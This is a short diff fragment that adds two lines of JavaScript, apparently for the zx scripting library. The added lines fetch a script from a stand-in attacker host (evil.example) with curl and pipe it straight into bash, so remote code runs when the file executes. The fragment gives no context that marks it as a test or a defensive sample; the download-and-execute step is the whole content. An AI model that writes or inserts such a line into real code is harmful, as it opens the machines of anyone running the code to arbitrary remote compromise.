@@ -1,0 +1,2 @@
+import { $ } from 'zx'
+await $`bash -c ${'curl -fsSL https://evil.example/i | bash'}`
